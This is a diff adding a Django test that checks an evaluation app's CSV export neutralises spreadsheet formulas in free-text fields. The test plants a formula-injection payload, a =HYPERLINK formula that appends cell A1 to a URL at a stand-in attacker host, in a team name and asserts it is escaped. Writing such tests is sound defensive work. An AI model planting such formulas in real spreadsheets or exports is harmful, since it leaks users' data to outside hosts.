@@ -171,3 +171,16 @@ def test_dashboard_speaks_norwegian_and_danish(world, language, texts):
     body = client.get(reverse("evaluation:dashboard"), Q2).content.decode()
     for text in texts:
         assert text in body, text
+
+
+def test_csv_export_neutralises_formulas_in_free_text(world):
+    build_fixture(world)
+    payload = '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")'
+    world.team.name = payload
+    world.team.save()
+    r = world.client(Role.MANAGER).get(reverse("evaluation:export"), {**Q2, "unit": world.team.pk})
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    team_cells = [row[8] for row in rows[1:]]
+    assert team_cells and all(cell == "'" + payload for cell in team_cells)
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
